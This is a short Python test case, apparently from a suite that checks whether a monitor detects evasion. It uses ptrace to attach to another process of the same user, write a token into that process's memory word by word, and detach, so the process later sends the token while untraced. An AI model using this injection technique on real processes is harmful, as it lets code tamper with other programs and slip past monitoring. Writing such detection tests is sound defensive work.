#!/usr/bin/python3
# id: c61_ptrace_detach
# title: attaches to another process of the same user, writes its memory and detaches; the process then sends
# needs: user
# expect: detect
# why: by the time that the process sends, nobody traces it
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    v = json.load(open(RUN + '/sender')); p = v['pid']; L = ctypes.CDLL(None, use_errno=True); L.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if L.ptrace(16, p, None, None) < 0: raise OSError(ctypes.get_errno(), 'attach')
    os.waitpid(p, 0); d = (TOK.encode() + b'\n').ljust(24, b'\0')
    # The first word last: the process takes what it finds.
    for k in (8, 16, 0): L.ptrace(5, p, v['at'] + k, int.from_bytes(d[k:k+8], 'little'))
    L.ptrace(17, p, None, None); time.sleep(.5)
attempt(f)
